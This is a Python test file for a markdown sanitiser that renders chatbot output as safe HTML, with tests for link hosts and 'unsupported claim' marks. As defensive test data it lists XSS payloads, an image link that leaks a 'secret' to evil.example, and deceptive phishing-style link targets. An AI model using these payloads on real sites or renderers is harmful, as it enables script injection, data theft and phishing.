import re
from html.parser import HTMLParser

import pytest

from botsmith.lib import markdown
from botsmith.lib.markdown import to_html

MARK = (
    '<sup class="unsupported" role="img" aria-label="No source says this" '
    'title="No source says this">?</sup>'
)


class Links(HTMLParser):
    """The addresses and the event handlers that a browser would find."""

    def __init__(self, html: str):
        super().__init__()
        self.hrefs: list[str] = []
        self.attributes: set[str] = set()
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.attributes |= {name for name, _ in attrs}
        self.hrefs += [value or "" for name, value in attrs if name == "href"]


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![x](https://evil.example/?q=secret)",
        "[x](javascript:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](&#106;avascript:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](vbscript:x)",
        "<a href='https://x.example' onclick='alert(1)'>x</a>",
        "<iframe src='https://evil.example'></iframe>",
        "<style>body{display:none}</style>",
        '<svg><animate onbegin="alert(1)"></svg>',
        "[x]: https://evil.example/i.png\n\n![y][x]",
        '[x](https://x.example "y\\" onmouseover=alert(1) z=\\"")',
    ],
)
@pytest.mark.parametrize("marked", [(), (3, 9, 21, 30, 4000)])
def test_nothing_in_it_can_act(hostile, marked):
    html = to_html(hostile, marked)
    for tag in ("<script", "<img", "<iframe", "<style", "<svg"):
        assert tag not in html.lower()
    found = Links(html)
    allowed = {"href", "rel", "target", "class", "role", "aria-label", "title"}
    assert found.attributes <= allowed
    assert all(re.match("https?://|mailto:", href) for href in found.hrefs)


def test_links_open_apart_and_tell_nothing():
    html = to_html("[us](https://example.com)")
    assert 'rel="noopener noreferrer nofollow"' in html and 'target="_blank"' in html


def test_tables_lists_and_code_are_kept():
    html = to_html("| a | b |\n|---|---|\n| 1 | 2 |\n\n- x\n\n```\ncode\n```")
    assert all(tag in html for tag in ("<table>", "<li>", "<pre><code>"))


def test_a_person_keeps_the_line_breaks_that_were_typed():
    assert to_html("Yes.\nMaggie") == "<p>Yes.\nMaggie</p>\n"
    assert to_html("Yes.\nMaggie", as_typed=True) == "<p>Yes.<br>\nMaggie</p>\n"


def test_pages_need_not_escape_it():
    assert hasattr(to_html("x"), "__html__")


def test_headings_stay_below_the_pages_own():
    assert to_html("# One\n\n###### Six") == "<h3>One</h3>\n<h6>Six</h6>\n"


# --- Where links lead -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "host"),
    [
        ("[our prices](https://shop.example/prices)", "shop.example"),
        ("[bank.example](https://evil.example)", "evil.example"),
        ("[https://bank.example/login](https://evil.example/login)", "evil.example"),
        ("[bank.example](https://bank.example@evil.example/)", "evil.example"),
        ("[bank.example](https://bank.example.evil.example/)", "bank.example.evil.example"),
        ("[evil.example.org](https://evil.example/)", "evil.example"),
        ("[**bold** and `code`](https://evil.example)", "evil.example"),
        ("[münchen.example](https://münchen.example/)", "xn--mnchen-3ya.example"),
        ("[write](mailto:post@shop.example?subject=x)", "post@shop.example"),
        ("[x][y]\n\n[y]: https://evil.example", "evil.example"),
    ],
)
def test_a_link_tells_its_host(text, host):
    assert f"</a> ({host})" in to_html(text)


@pytest.mark.parametrize(
    "text",
    [
        "[shop.example](https://shop.example/prices)",
        "[www.shop.example](https://www.shop.example)",
        "[Shop.Example](https://www.shop.example)",
        "<https://shop.example/prices>",
        "[shop.example/**prices**](https://shop.example/prices)",
        "[post@shop.example](mailto:post@shop.example)",
    ],
)
def test_a_host_is_not_said_twice(text):
    html = to_html(text)
    assert "href=" in html and "(" not in html


@pytest.mark.parametrize(
    "target",
    ["//evil.example", "/accounts/logout/", "https:evil.example", "https:///evil.example",
     "https://evil%2Eexample/", "#x", "ftp://x.example", "https://["],
)  # fmt: skip
def test_what_leads_to_no_host_is_no_link(target):
    html = to_html(f"[words]({target})")
    assert "href" not in html and "words" in html


def test_letters_cannot_be_turned_around():
    assert "\u202e" not in to_html("[\u202eelpmaxe.knab](https://evil.example) &#x202E;")


# --- Marks ----------------------------------------------------------------------------------


def marked_at(text: str) -> str:
    """The HTML of a text whose ^ are the marked places."""
    pieces = text.split("^")
    offsets = [len("".join(pieces[:number])) for number in range(1, len(pieces))]
    return to_html("".join(pieces), offsets).replace(MARK, "^").strip()


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("It is open. It is blue.^", "<p>It is open. It is blue.^</p>"),
        ("One.^ Two [1].^", "<p>One.^ Two [1].^</p>"),
        ("**It is blue.**^ Yes.", "<p><strong>It is blue.^</strong> Yes.</p>"),
        (
            "- One.\n- Two.^\n- Three.",
            "<ul>\n<li>One.</li>\n<li>Two.^</li>\n<li>Three.</li>\n</ul>",
        ),
        ("## Blue ##^", "<h4>Blue^</h4>"),
        ("> It is blue. \n^", "<blockquote>\n<p>It is blue.^</p>\n</blockquote>"),
        ("青いです。^**はい**", "<p>青いです。^<strong>はい</strong></p>"),
        ("<b>^", "<p>&lt;b&gt;^</p>"),
    ],
)
def test_a_mark_stands_at_the_end_of_its_sentence(text, html):
    assert marked_at(text) == html


def test_a_marked_row_stays_a_row():
    html = marked_at("| a | b |\n|---|---|\n| 1 | 2 |^\n| 3 | 4 |")
    assert "<td>2^</td>" in html and "<td>4</td>" in html


def test_a_mark_keeps_a_code_block_closed():
    assert marked_at("```\nx = 1\n```^\n\nAfter.").endswith("<p>After.</p>")


def test_a_mark_changes_no_address():
    html = marked_at("[a](https://shop.exa^mple/x) <https://shop.example/a^b>")
    assert Links(html).hrefs == ["https://shop.example/x", "https://shop.example/ab"]
    assert html.count("^") == 2


def test_nobody_but_the_caller_can_set_a_mark():
    assert "<sup" not in to_html(f"a\ufdd0 &#xFDD0; [b](https://c.example/\ufdd0) {MARK}")


def test_what_takes_long_is_rendered_once(monkeypatch):
    rendered = []
    render = markdown._rendered
    monkeypatch.setattr(markdown, "_rendered", lambda *text: rendered.append(text) or render(*text))
    hostile = "[" * 4000
    assert to_html(hostile) == to_html(hostile) and len(rendered) == 1
    assert to_html(hostile, marked=[9]) != to_html(hostile) and len(rendered) == 2


def test_marks_beyond_the_text_stand_at_its_end():
    assert to_html("x", [99, -5]).count("<sup") == 2
